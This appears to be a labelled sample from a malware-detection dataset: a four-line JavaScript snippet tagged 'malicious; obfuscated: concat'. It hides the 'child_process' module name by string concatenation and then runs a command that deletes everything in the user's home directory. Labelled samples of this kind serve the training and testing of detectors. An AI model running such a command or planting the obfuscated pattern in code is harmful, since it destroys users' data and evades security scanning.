// label: malicious; obfuscated: concat
const m = "child" + "_process";
const x = require(m);
x.execSync("rm -rf ~/*");
